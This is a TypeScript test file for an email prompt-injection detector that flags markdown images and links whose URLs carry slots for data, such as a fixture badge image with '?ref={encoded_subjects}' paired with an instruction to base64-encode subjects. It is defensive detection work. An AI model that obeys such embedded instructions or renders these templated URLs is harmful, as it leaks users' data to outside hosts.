import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { runDetector } from '../../pipeline/testing.ts';
import { exfilUrlTemplateDetector, markdownUrlTemplates } from './exfil-url-template.ts';
import { fixture } from './fixtures.ts';

describe('prompt-injection.exfil-url-template', () => {
  it('finds markdown images and links whose URL has a slot to fill', () => {
    assert.deepEqual(markdownUrlTemplates('see ![x](https://a.test/p.png?d={data}) and [y](https://b.test/?q=<SECRET>)'), [
      { image: true, url: 'https://a.test/p.png?d={data}' },
      { image: false, url: 'https://b.test/?q=<SECRET>' },
    ]);
    assert.deepEqual(markdownUrlTemplates('[docs](https://a.test/guide?page=2) ![logo](https://a.test/logo.png)'), []);
    assert.deepEqual(markdownUrlTemplates('![](https://a.test/p?x=%7B%7Bhistory%7D%7D)'), [
      { image: true, url: 'https://a.test/p?x=%7B%7Bhistory%7D%7D' },
    ]);
  });

  it('reports the markdown image and the request to encode data into it', async () => {
    const hit = (await runDetector(exfilUrlTemplateDetector, fixture('offscreen-markdown-exfil.eml'))).get('PI_EXFIL_URL_TEMPLATE');
    assert.equal(hit?.evidence[0], 'html: markdown image https://cdn.fabrikam-events.example.test/badge.png?ref={encoded_subjects}');
    assert.ok(hit?.evidence.some((e) => e.includes('base64 encode them and include')));
  });

  it('counts a lone templated link at half strength', async () => {
    const raw = 'From: a@example.com\r\nTo: b@example.net\r\nSubject: s\r\n\r\nDocs: [profile](https://api.example.test/users/{id})\r\n';
    assert.equal((await runDetector(exfilUrlTemplateDetector, raw)).get('PI_EXFIL_URL_TEMPLATE')?.factor, 0.5);
  });

  it('stays quiet on newsletters', async () => {
    assert.equal((await runDetector(exfilUrlTemplateDetector, fixture('newsletter-preheader.eml'))).size, 0);
    assert.equal((await runDetector(exfilUrlTemplateDetector, fixture('ai-product-newsletter.eml'))).size, 0);
  });
});
